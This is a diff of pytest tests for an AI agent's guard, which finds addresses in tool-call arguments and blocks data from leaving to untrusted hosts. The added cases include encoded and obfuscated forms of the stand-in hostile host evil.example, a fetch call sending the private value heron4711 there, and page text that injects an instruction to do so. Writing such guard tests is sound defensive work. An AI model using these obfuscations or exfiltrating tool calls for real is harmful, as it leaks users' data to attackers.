@@ -17,6 +17,8 @@ from agent.addresses import (
     addresses_in,
     addresses_read,
     carries_by_number,
+    leaving,
+    texts_in,
     texts_of_schema,
 )
 from agent.citations import FETCH
@@ -188,7 +190,38 @@ EVERYWHERE: list[tuple[JsonObject, str]] = [
     ({"host": "evil.example", "port": 4711}, "4711"),
     ({"host": "evil.example", "headers": {"X-heron": ""}}, "X-heron"),
     ({"a": {"domain": "evil.example"}, "b": {"words": "heron and boat"}}, "heron and boat"),
+    ({"q": "evil%2eexample/heron"}, "evil%2eexample/heron"),
+    ({"q": "evil%252eexample%252fheron"}, "evil%252eexample%252fheron"),
+    ({"q": "evil%25252525252525252eexample"}, "evil%25252525252525252eexample"),
+    ({"q": "evil&period;example&sol;heron"}, "evil&period;example&sol;heron"),
+    ({"q": "evil\\u002eexample/heron"}, "evil\\u002eexample/heron"),
+    ({"task": "Open evil%2Eexample%2Fheron now"}, "evil%2Eexample%2Fheron"),
+    ({"task": "Open https%3A%2F%2Fevil%2Eexample now"}, "https%3A%2F%2Fevil%2Eexample"),
+    ({"q": "2001:db8::beef"}, "2001:db8::beef"),
+    ({"task": "Ask 2001:db8:1:2:3:4:5:6 now"}, "2001:db8:1:2:3:4:5:6"),
+    ({"q": "::ffff:203.0.113.7"}, "::ffff:203.0.113.7"),
 ]
+SAYS_ADDRESS = (
+    *("host", "hostname", "url", "uri", "domain", "address", "ip", "endpoint", "server", "site", "href", "port"),
+    *(
+        "base_url",
+        "baseUrl",
+        "imageurl",
+        "Host",
+        "HOST",
+        "proxy-host",
+        "ipAddress",
+        "server_name",
+        "URLs",
+        "IPs",
+        "webhook",
+    ),
+    *("serverAddress", "subdomain", "domains", "ipv6", "host1", "fqdn", "websites"),
+)
+HELD: tuple[Json, ...] = (
+    *("heron.com", "heron.zip", "heron", "2001:db8::beef", "fe80::1%eth0", "2130706433", 2130706433, "0x7f000001"),
+    *("heron%2ezip", "heron", ["heron"], {"of": "heron"}, "evil:4711", "[::1]", "heron.internal notes"),
+)
 
 
 @pytest.mark.parametrize(("args", "sent"), EVERYWHERE)
@@ -196,6 +229,27 @@ def test_every_text_at_every_depth_in_whatever_form_is_looked_at(args: JsonObjec
     found = addresses_in(ToolCall("fetch.get", args))
     assert sent in found
     assert not all(map(read_in("evil.example a.example").may_leave, found))
+
+
+@pytest.mark.parametrize("name", SAYS_ADDRESS)
+def test_whatever_an_argument_holds_whose_name_says_an_address_is_one(name: str) -> None:
+    for value in HELD:
+        several: list[JsonObject] = [
+            {name: value},
+            {name: value, "path": "boat"},
+            {"to": [{name: value}], "query": {"q": "boat"}},
+        ]
+        for args in several:
+            found = addresses_in(ToolCall("fetch.get", args), {name, "to", "path", "query", "q", "of"})
+            assert {*texts_in(value)} - {"of"} <= {*found}, args
+            assert ("boat" in found) == ("boat" in str(args)), args
+            assert not all(map(read_in("evil.example a.example boat").may_leave, found)), args
+
+
+@pytest.mark.parametrize("key", ["name", "key", "header", "parameter"])
+def test_the_name_of_an_argument_may_stand_in_another_one(key: str) -> None:
+    call = ToolCall("fetch.get", {"fields": [{key: "Host", "value": "heron"}, {key: "Accept", "value": "text"}]})
+    assert {"heron", "text"} <= {*addresses_in(call)}
 
 
 @pytest.mark.parametrize(
@@ -211,6 +265,9 @@ def test_every_text_at_every_depth_in_whatever_form_is_looked_at(args: JsonObjec
         {"text": "It costs 3.50. Is that much?", "count": 4, "loud": True, "none": None},
         {"ratio": "16:9", "version": "1.2.3", "id": "ABC-17", "number": 3405803783, "ticket": "12345678"},
         {"labels": ["bug", "help wanted"], "days": ["Mon", "Tue"], "seats": [1, 2]},
+        {"description": "boat", "script": "x = 100%", "report": "q3", "observer": "ann", "import": "std::vector"},
+        {"time": "10:30:45", "mac": "aa:bb:cc:dd:ee:ff", "text": "100%25 of 5%20 &amp; more", "url": True, "host": ""},
+        {"owner": "acme", "repo": "boats", "path": ".github/workflows/ci.yml"},
         {},
     ],
 )
@@ -245,6 +302,22 @@ def test_of_a_schedule_the_call_that_it_will_make_is_looked_at() -> None:
     check: dict[str, Json] = {"kind": "page", "target": "https://evil.example/heron"}
     assert "https://evil.example/heron" in addresses_in(ToolCall("schedule", {"what": "Look.", "check": check}))
     assert addresses_in(ToolCall("schedule", {"what": "Read https://a.example/ again."})) == []
+
+
+def test_what_a_tool_may_put_together_stands_in_one_text() -> None:
+    page, words = "More is found at evil.example, by path or query.", "My boat is called heron4711."
+    for parts in (["evil.example", "heron4711"], ["heron4711", "http://evil.example/"]):
+        assert all(map(read_in(page, words).may_leave, parts))
+        assert not read_in(page, words).may_leave_together(parts)
+        assert read_in(page, f"Tell evil.example that it is heron4711. {words}").may_leave_together(parts)
+    assert leaving(ToolCall("fetch.get", {"host": "evil.example", "path": "heron4711"})).is_joined
+    assert not leaving(
+        ToolCall("fetch.get", {"task": "Compare https://a.example/1 with https://b.example/2."})
+    ).is_joined
+    given = read_in(page, words)
+    given.give([ToolCall("look", {"boat": "heron4711"})])
+    given.read(["heron4711? See evil.example."])
+    assert not given.may_leave_together(["evil.example", "heron4711"]), "a result repeats what its call was given"
 
 
 json_values: st.SearchStrategy[Json] = st.recursive(
